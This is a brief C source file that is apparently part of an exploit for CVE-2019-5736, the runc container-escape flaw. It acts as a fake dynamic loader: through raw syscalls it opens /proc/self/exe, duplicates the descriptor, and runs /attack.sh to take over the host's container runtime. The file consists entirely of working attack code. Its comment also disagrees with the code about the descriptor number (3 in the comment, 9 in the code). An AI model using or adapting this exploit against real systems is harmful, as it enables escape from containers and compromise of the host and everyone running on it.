/* A dynamic loader that is none: the kernel runs it in place of the one a program names.

   It keeps the program that was to be loaded as descriptor 3 and goes on as /attack.sh. So a container
   whose command is /proc/self/exe gets hold of the program of whoever started it (CVE-2019-5736). */

static long call(long number, long first, long second, long third) {
    long result;
#if defined(__x86_64__)
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(first), "S"(second), "d"(third) : "rcx", "r11", "memory");
#else
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = first, x1 __asm__("x1") = second, x2 __asm__("x2") = third;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    result = x0;
#endif
    return result;
}

#if defined(__x86_64__)
enum { OPENAT = 257, DUP3 = 292, EXECVE = 59, EXIT = 60 };
#else
enum { OPENAT = 56, DUP3 = 24, EXECVE = 221, EXIT = 93 };
#endif

void _start(void) {
    static char *words[] = {"sh", "/attack.sh", 0};
    static char *environment[] = {"PATH=/bin", 0};
    long fd = call(OPENAT, -100, (long)"/proc/self/exe", 010000000 /* O_PATH */);
    call(DUP3, fd, 9, 0);
    call(EXECVE, (long)"/bin/sh", (long)words, (long)environment);
    call(EXIT, 1, 0, 0);
}
